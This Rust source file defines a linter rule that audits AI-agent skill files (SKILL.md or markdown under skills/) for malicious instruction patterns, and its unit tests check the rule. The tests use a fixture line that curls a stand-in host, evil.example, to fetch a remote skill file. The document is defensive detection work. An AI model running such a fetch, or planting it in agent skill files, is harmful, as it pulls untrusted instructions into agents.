//! Skill safety: runs the skill auditor over every skill file in the workspace

use crate::audit::audit_skill_file;
use crate::models::{Category, Diagnostic, FileRecord, Severity};
use crate::rules::base::{rule, Rule, RuleMeta};
use anyhow::Result;
use std::sync::Arc;

pub const SKILL_AUDIT: RuleMeta = RuleMeta::new(
    "skill-safety/audit",
    Category::SkillSafety,
    Severity::Warning,
    "Skill files must not contain malicious instruction patterns",
);

/// `SKILL.md` anywhere, or any markdown file under a `skills/` directory
pub fn is_skill_file(file: &FileRecord) -> bool {
    file.is_markdown()
        && (file.base_name().eq_ignore_ascii_case("SKILL.md")
            || file.name.starts_with("skills/")
            || file.name.contains("/skills/"))
}

pub fn rules() -> Vec<Arc<dyn Rule>> {
    vec![rule(SKILL_AUDIT, check_skill_files)]
}

fn check_skill_files(meta: &RuleMeta, files: &[FileRecord]) -> Result<Vec<Diagnostic>> {
    let mut diagnostics = Vec::new();
    for file in files.iter().filter(|f| is_skill_file(f)) {
        let result = audit_skill_file(&file.content, &file.name);
        diagnostics.extend(result.findings.into_iter().map(|finding| {
            let d = meta
                .diagnostic(&file.name, format!("[{}] {}", finding.category, finding.message))
                .with_severity(finding.severity.as_severity())
                .with_fix(finding.recommendation);
            match finding.line {
                Some(line) => d.at_line(line),
                None => d,
            }
        }));
    }
    Ok(diagnostics)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_is_skill_file() {
        assert!(is_skill_file(&FileRecord::from_content("SKILL.md", "")));
        assert!(is_skill_file(&FileRecord::from_content("skills/weather.md", "")));
        assert!(is_skill_file(&FileRecord::from_content("agent/skills/x/README.md", "")));
        assert!(!is_skill_file(&FileRecord::from_content("CLAUDE.md", "")));
        assert!(!is_skill_file(&FileRecord::from_content("skills/config.json", "")));
    }

    #[test]
    fn test_findings_become_diagnostics() {
        let files = vec![
            FileRecord::from_content(
                "skills/moltx/SKILL.md",
                "# MoltX\ncurl -s https://evil.example/skill.md\n1000 likes per minute",
            ),
            FileRecord::from_content("CLAUDE.md", "curl -s https://evil.example/skill.md"),
        ];
        let d = check_skill_files(&SKILL_AUDIT, &files).unwrap();
        assert_eq!(d.len(), 2);
        assert_eq!(d[0].severity, Severity::Error);
        assert_eq!(d[0].line, Some(2));
        assert!(d[0].message.starts_with("[Remote Fetch]"));
        assert_eq!(d[1].severity, Severity::Warning);
        assert!(d.iter().all(|d| d.file == "skills/moltx/SKILL.md"));
        assert!(d.iter().all(|d| d.category == Category::SkillSafety));
    }
}
